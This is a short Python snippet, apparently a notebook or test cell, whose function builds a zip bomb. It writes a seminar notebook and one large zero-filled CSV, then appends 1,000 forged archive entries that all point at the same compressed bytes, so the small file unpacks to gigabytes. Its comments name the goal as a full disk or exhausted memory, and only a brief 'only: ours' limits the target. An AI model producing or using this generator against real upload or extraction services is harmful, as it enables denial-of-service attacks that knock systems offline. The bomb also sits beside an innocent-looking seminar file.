# tries: lets 1,000 entries share the same compressed bytes, so that a small file unpacks to gigabytes
# gain: a full disk or no memory
# only: ours

# %% zip
import io, zipfile
def pack(notebook):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("seminar4.ipynb", notebook)
        archive.writestr("big.csv", bytes(2**24))
        big = archive.getinfo("big.csv")
        for number in range(1000):
            twin = zipfile.ZipInfo(f"big-{number}.csv")
            for name in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(twin, name, getattr(big, name))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return buffer.getvalue()
